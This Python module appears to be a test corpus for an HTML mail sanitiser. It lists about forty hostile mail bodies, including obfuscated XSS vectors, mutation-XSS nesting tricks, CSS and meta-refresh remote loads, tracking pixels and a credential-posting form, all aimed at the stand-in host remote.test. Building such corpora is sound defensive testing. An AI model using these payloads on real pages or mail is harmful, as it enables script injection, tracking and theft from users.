"""Hostile HTML mail bodies. Each tries to run ``RUN`` (marks the document and calls a
remote host) or to make the browser fetch from ``http://remote.test`` by itself."""

from __future__ import annotations

RUN = "document.documentElement.setAttribute('data-xss','1');fetch('http://remote.test/ran')"
R = "http://remote.test"

CORPUS: list[str] = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={R}/x.js></SCRIPT>",
    f'<img src=x onerror="{RUN}">',
    f'<body onload="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="JaVaScRiPt:{RUN}">click</a>',
    f'<a href="&#106;avascript:{RUN}">entity</a>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<a href="data:text/html,<script>{RUN}</script>">data link</a>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="{R}/x.swf">',
    f'<meta http-equiv="refresh" content="0;url={R}/refresh">',
    f'<base href="{R}/"><img src="relative.png">',
    f'<link rel="stylesheet" href="{R}/x.css">',
    f"<style>@import url({R}/import.css);</style>",
    f"<style>body{{background:url({R}/bg.png)}}</style>",
    f'<div style="background-image:url({R}/bg2.png)">css</div>',
    f'<div style="width:expression({RUN})">ie</div>',
    f'<form action="{R}/steal"><input name="p" value="x"><button>go</button></form>',
    f'<form><button formaction="javascript:{RUN}">x</button></form>',
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    f'<img src="{R}/tracker.gif" width=1 height=1>',
    f'<img srcset="{R}/a.png 1x, {R}/b.png 2x">',
    f'<table background="{R}/tb.png"><tr><td>t</td></tr></table>',
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f'<scr<script>ipt>{RUN}</script>',
    f"<img src=\"x` `<script>{RUN}</script>\"` `>",
    f'<a href="{R}/page" ping="{R}/ping">a link with ping</a>',
    f"<template><script>{RUN}</script></template>",
    f'<object type="text/html" data="{R}/obj.html"></object>',
    '<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>',
    f'<![CDATA[<script>{RUN}</script>]]>',
    f"<!--<script>{RUN}</script>-->",
    f'<div><p>unclosed <b>tags <i>and <a href="{R}">links',
]
